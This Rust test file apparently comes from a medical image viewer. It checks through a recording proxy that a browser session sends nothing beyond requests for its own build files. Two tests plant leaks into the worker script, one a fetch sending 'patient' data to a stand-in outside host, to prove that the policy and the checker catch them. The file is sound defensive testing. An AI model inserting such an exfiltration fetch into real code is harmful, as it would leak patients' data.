//! Nothing leaves: a whole session behind a recording proxy, and two planted leaks that the
//! same checker must see.

use std::path::Path;

use xtask::browser::Result;
use xtask::serve::Request;

use crate::lab::{self, Lab, RENDERERS};
use crate::synthetic_files;

#[test]
fn a_whole_session_sends_nothing_but_requests_for_listed_files() {
    lab::run("no_leak", |lab| {
        let folder = synthetic_files::stack(&lab.scratch, 12)?;
        for renderer in RENDERERS {
            session(lab, &folder, &format!("/?renderer={renderer}"))?;
            bad_files(lab)?;
            // What the service worker asks for is on record too; the second page is its answer.
            lab.wait("document.body.dataset.offline === 'ready'")?;
            assert_eq!(leaks(lab), Vec::<String>::new(), "{renderer}");
            assert!(lab.is_asked_for("/"), "the proxy saw the page load");
            assert!(lab.is_asked_for("/sw.js"), "and its service worker");
        }
        Ok(())
    });
}

#[test]
fn a_leak_planted_in_a_worker_is_seen() {
    lab::run("no_leak_planted", |lab| {
        let folder = synthetic_files::stack(&lab.scratch, 12)?;
        plant(
            lab,
            "fetch(new URL('./files.json?patient=1', import.meta.url)).catch(() => {});",
        );
        session(lab, &folder, "/")?;
        let leaks = leaks(lab);
        assert!(
            leaks.iter().any(|leak| leak.contains("patient=1")),
            "{leaks:?}"
        );
        Ok(())
    });
}

#[test]
fn a_leak_to_another_host_is_stopped_by_the_policy_and_seen_without_it() {
    lab::run("no_leak_elsewhere", |lab| {
        let folder = synthetic_files::stack(&lab.scratch, 12)?;
        plant(
            lab,
            "fetch('http://elsewhere.test/patient').catch(() => {});",
        );
        session(lab, &folder, "/")?;
        assert_eq!(leaks(lab), Vec::<String>::new(), "refused by the browser");

        lab.server
            .replace("/index.html", crate::policy::index_without_policy());
        session(lab, &folder, "/")?;
        let leaks = leaks(lab);
        assert!(
            leaks
                .iter()
                .any(|leak| leak.contains("elsewhere.test/patient")),
            "{leaks:?}"
        );
        Ok(())
    });
}

/// Opens the page, drops a stack, scrolls and windows it, drags and looks at values.
fn session(lab: &mut Lab, folder: &Path, address: &str) -> Result<()> {
    lab.open_at(address)?;
    lab.load(&[folder])?;
    for key in [
        "PageDown", "ArrowUp", "1", "2", "0", "End", "Home", "i", "r",
    ] {
        lab.press(key)?;
    }
    let pane = lab.pane(0)?;
    lab.page
        .wheel(pane.centre(), xtask::browser::Modifiers::NONE, 120.0)?;
    let path = [pane.at(0.5, 0.5), pane.at(0.6, 0.4)];
    lab.page.drag(
        xtask::browser::Button::Left,
        xtask::browser::Modifiers::NONE,
        &path,
    )?;
    lab.settle()
}

/// Drops what cannot be read, and an archive; gives up in the middle, and closes.
fn bad_files(lab: &mut Lab) -> Result<()> {
    let bad = lab.scratch.write("patient name.dcm", b"no DICOM")?;
    let false_archive = lab.scratch.write("patient name.rar", b"no archive")?;
    lab.load(&[&bad, &false_archive])?;
    assert_eq!(lab.problems()?.len(), 2);
    lab.button("close")?;
    lab.settle()
}

/// Adds a line to the script of the worker that is served.
fn plant(lab: &Lab, line: &str) {
    let (path, script) = lab::worker_script();
    lab.server.replace(&path, format!("{script}\n{line}\n"));
}

/// What the address itself asks for.
fn is_renderer(query: &str) -> bool {
    RENDERERS.contains(&query.trim_start_matches("renderer="))
}

/// Every request that is not the plain GET of a file of the build.
pub fn leaks(lab: &Lab) -> Vec<String> {
    let files = lab::listed();
    let own = lab.server.origin();
    let own = own.trim_start_matches("http://");
    let is_plain = |request: &Request| {
        request.method == "GET"
            && request
                .authority
                .as_deref()
                .is_none_or(|authority| authority == own)
            && request.query.as_deref().is_none_or(is_renderer)
            && !request.has_body
            && (request.path == "/" || files.contains(request.path.trim_start_matches('/')))
    };
    let requests = lab.server.requests();
    let suspect = requests.iter().filter(|request| !is_plain(request));
    suspect
        .map(|it| format!("{} {} ({} bytes)", it.method, it.target, it.body_length))
        .collect()
}
